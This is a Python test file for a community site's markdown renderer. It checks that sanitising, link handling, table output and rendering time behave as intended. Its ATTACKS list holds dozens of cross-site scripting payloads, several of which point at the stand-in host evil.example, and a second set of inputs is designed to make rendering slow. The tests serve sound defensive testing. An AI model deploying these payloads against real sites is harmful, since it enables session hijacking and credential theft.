"""What members write becomes HTML that can do nothing."""

import re
import time

import pytest

from core.markdown import MAX_LENGTH, plain, render

# Written for this project after the classes of the OWASP filter evasion sheet.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "![x](x 'onerror=alert(1)')",
    "![x](https://evil.example/pixel.png)",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org/"onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<div hx-get=/admin/ hx-trigger=load>x</div>",
    "<div data-hx-get=/admin/ data-hx-trigger=load>x</div>",
    "<meta name=htmx-config content='{}'>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p id=main name=body class=btn>x</p>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "{{ 7*7 }}{% load static %}%(x)s",
    '<a href="https://example.org" target=_blank onclick=alert(1)>x</a>',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]
ALLOWED = re.compile(
    r"</?(?:a|blockquote|br|code|del|em|h[3-6]|hr|li|ol|p|pre|s|strong|table|tbody|td|th|thead|tr|ul)"
    r'(?:\s(?:href|title|start|rel)="[^"<>]*"|\sscope="col")*\s*/?>'
    r'|<div class="table-scroll" role="group" tabindex="0" aria-label="[^"<>]*">|</div>'
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_A17_an_attack_leaves_only_allowed_tags(attack: str) -> None:
    html = str(render(attack))

    rest = ALLOWED.sub("", html)
    assert "<" not in rest
    schemes = {match.lower() for match in re.findall(r'<a href="([a-z][a-z0-9+.-]*):', html, re.IGNORECASE)}
    assert schemes <= {"http", "https", "mailto"}


def test_the_usual_marks_are_rendered() -> None:
    assert render("**Bold** and *soft*, ~~gone~~") == "<p><strong>Bold</strong> and <em>soft</em>, <s>gone</s></p>\n"


def test_headings_stand_below_those_of_the_page() -> None:
    assert render("# One\n\n##### Five") == "<h3>One</h3>\n<h6>Five</h6>\n"


def test_a_wide_table_scrolls_in_a_frame_that_the_keyboard_reaches() -> None:
    assert render("| Call | Budget |\n|---|--:|\n| 2015 | 12 |") == (
        '<div class="table-scroll" role="group" tabindex="0" aria-label="Call, Budget">\n<table>\n'
        '<thead>\n<tr>\n<th scope="col">Call</th>\n<th class="to-end" scope="col">Budget</th>\n</tr>\n</thead>\n'
        '<tbody>\n<tr>\n<td>2015</td>\n<td class="to-end">12</td>\n</tr>\n</tbody>\n</table>\n</div>\n'
    )


def test_A19_links_tell_search_engines_nothing_and_open_no_window() -> None:
    expected = '<p><a href="https://example.org" rel="nofollow ugc noopener">https://example.org</a></p>\n'

    assert render("https://example.org") == expected


def test_A27_an_image_from_elsewhere_is_a_link() -> None:
    link = '<a href="https://example.org/cat.png" rel="nofollow ugc noopener">'

    assert render("![A cat](https://example.org/cat.png)") == f"<p>{link}A cat</a></p>\n"
    assert render("![](https://example.org/cat.png)") == f"<p>{link}https://example.org/cat.png</a></p>\n"
    assert render("[![A cat](x.png)](/topics/)") == '<p><a href="/topics/" rel="nofollow ugc noopener">A cat</a></p>\n'


HEAVY = {
    "brackets": "[" * 20_000,
    "quotes": "> " * 10_000 + "x",
    "stars": "*a " * 7_000,
    "ticks": "`" * 20_000,
    "cells": "| a " * 5_000,
    "angles": "<" * 20_000,
    "lists": "- " * 9_000,
    "mentions": "@a-" * 6_000,
    "colons": ":a" * 10_000,
    "marks": "[^a]" * 4_990 + "\n\n[^a]: x",
    "notes": "[^a]: " * 3_000,
    "images": "![[" * 6_000,
    "tables": "|a|\n|-|\n" * 2_000,
}


@pytest.mark.parametrize("source", HEAVY.values(), ids=HEAVY)
def test_A39_no_text_takes_long(source: str) -> None:
    started = time.process_time()

    render(source)

    assert time.process_time() - started < 2


def test_a_text_is_cut_at_the_limit() -> None:
    assert len(plain(render("a" * (MAX_LENGTH + 100)))) == MAX_LENGTH


def test_plain_words_of_a_text() -> None:
    assert plain(render("> A **quote** & more\n\nNext")) == "A quote & more Next"
